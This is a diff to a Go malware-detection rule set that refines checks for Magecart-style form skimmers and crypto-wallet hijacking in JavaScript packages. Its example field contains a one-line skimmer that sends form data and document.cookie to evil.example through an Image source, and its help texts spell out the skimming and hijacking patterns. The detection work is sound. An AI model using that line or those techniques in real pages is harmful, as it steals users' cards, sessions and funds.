@@ -20,10 +20,10 @@ type FormSkimmer struct{}
 // Meta implements analyze.Rule.
 func (FormSkimmer) Meta() analyze.Meta {
 	return analyze.Meta{
-		ID: "browser/form-skimmer", Version: 3, Title: "Skims form fields and cookies",
+		ID: "browser/form-skimmer", Version: 4, Title: "Skims form fields and cookies",
 		Help: "Code picks payment card fields out of the page's forms (cc-number, cvv, input[name*=card]…) on submit, or reads every form's " +
-			"fields (document.forms) together with document.cookie, and sends them to a hard-coded external URL (fetch, XHR, sendBeacon, an " +
-			"Image or a prefetch link). This is a Magecart-style card skimmer: critical with card fields; medium for forms and cookies " +
+			"fields (document.forms) together with document.cookie, and sends them to a hard-coded external URL (the URL given to fetch, XHR, " +
+			"sendBeacon, a WebSocket or an HTTP client, or set as an Image's source; a link elsewhere in the file does not count). This is a Magecart-style card skimmer: critical with card fields; medium for forms and cookies " +
 			"alone, which form-analytics and session-replay SDKs also read.",
 		Remediation:     "Remove the package from any site build immediately.",
 		Example:         `document.forms[0].addEventListener("submit", () => { new Image().src = "https://evil.example/c?d=" + btoa(data + document.cookie) })`,
@@ -81,21 +81,10 @@ func (FormSkimmer) Check(ctx context.Context, t *analyze.Target, r analyze.Repor
 		default:
 			continue
 		}
-		dest := ""
-		for _, s := range f.Facts.Strings {
-			for _, u := range rulekit.URLs(s.Value) {
-				if h := rulekit.Host(u); h != "" && !strings.Contains(h, "localhost") {
-					dest = u
-				}
-			}
-		}
-		send := false
-		for _, c := range f.Facts.Calls {
-			if rulekit.IsNetCall(c) || c.Callee == "Image" || c.Callee == "document.createElement" {
-				send = true
-			}
-		}
-		if dest == "" || !send {
+		// where a request or an image goes, not any link in the file (a
+		// session recorder's masking rules sit next to its docs links)
+		dest, _, _ := externalDest(t, f.Facts)
+		if dest == "" {
 			continue
 		}
 		if card != nil && forms == 0 && f.Facts.Bundle() {
@@ -116,8 +105,9 @@ type WalletHijack struct{}
 // Meta implements analyze.Rule.
 func (WalletHijack) Meta() analyze.Meta {
 	return analyze.Meta{
-		ID: "browser/wallet-hijack", Version: 5, Title: "Hijacks crypto wallet traffic",
-		Help: "Code sets a wallet transaction's recipient to a constant address (tx.to = \"0x…\" where it handles eth_sendTransaction), or " +
+		ID: "browser/wallet-hijack", Version: 6, Title: "Hijacks crypto wallet traffic",
+		Help: "Code sets a wallet transaction's recipient to a constant address (tx.to = \"0x…\" where it handles eth_sendTransaction; the " +
+			"zero address, a library's default, does not count), or " +
 			"replaces fetch, XMLHttpRequest or window.ethereum (an assignment or Object.defineProperty), or rewrites the clipboard after reading it (a " +
 			"\"copy address\" button only writes), and contains several crypto-address " +
 			"patterns (Bitcoin, Ethereum, Solana, Tron...), or one pattern plus a hard-coded wallet address to put in its place (in a " +
@@ -297,7 +287,9 @@ func (WalletHijack) Check(ctx context.Context, t *analyze.Target, r analyze.Repo
 func rewritten(f *jsast.Facts) *jsast.Assign {
 	var a *jsast.Assign
 	for i := range f.Assigns {
-		if x := &f.Assigns[i]; strings.HasSuffix(x.Target, ".to") && walletAddr.MatchString(x.Value) {
+		// (the zero address is a library's default for a contract
+		// deployment or a burn, not a thief's)
+		if x := &f.Assigns[i]; strings.HasSuffix(x.Target, ".to") && walletAddr.MatchString(x.Value) && strings.Trim(strings.ToLower(x.Value), "0x") != "" {
 			a = x
 			break
 		}
